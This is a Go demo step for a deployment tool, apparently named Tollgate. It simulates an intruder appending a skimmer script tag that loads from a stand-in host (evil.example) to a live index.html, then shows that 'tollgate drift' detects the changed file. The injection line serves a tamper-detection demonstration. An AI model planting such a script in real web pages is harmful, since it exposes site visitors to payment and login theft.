package demo

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/tollgate-dev/tollgate/server"
)

// demoSkimmer is what the intruder appends to a live page.
const demoSkimmer = "<script src=https://evil.example/skim.js></script>"

// stepTamperServer: someone with a shell on a production server edits a
// live file; `tollgate drift` names it, against the release Tollgate put
// live and the manifest digest it recorded.
func (st *demoStory) stepTamperServer(ctx context.Context) error {
	web1 := st.targets.Production.Servers[0]
	const page = "public/index.html"
	st.section(fmt.Sprintf("Someone with a shell on %s edits a live file", web1.Name))
	f, err := os.OpenFile(filepath.Join(web1.Root, "current", page), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return fmt.Errorf("editing the live %s on %s: %w", page, web1.Name, err)
	}
	_, err = fmt.Fprintln(f, demoSkimmer)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return fmt.Errorf("editing the live %s on %s: %w", page, web1.Name, err)
	}
	st.printf("  %s$ echo '%s' >> /srv/shop/current/%s\n", web1.Name, demoSkimmer, page)
	st.printf("  The site serves the skimmer; nothing in Tollgate's database changed.\n")

	st.section("tollgate drift: it names the edited file on the server where it happened")
	args := []string{"--environment", "production", "--config", st.cfgPath}
	var buf bytes.Buffer
	code := server.RunDriftCommand(ctx, args, &buf, &buf)
	st.printf("  $ tollgate drift %s\n", strings.Join(st.relArgs(args), " "))
	for _, l := range splitLines(buf.String()) {
		st.printf("    %s\n", l)
	}
	st.printf("    (exit status %d)\n", code)
	return expect(code == exitCheckFailed && strings.Contains(buf.String(), "changed "+page),
		"tollgate drift exited %d without naming %s", code, page)
}
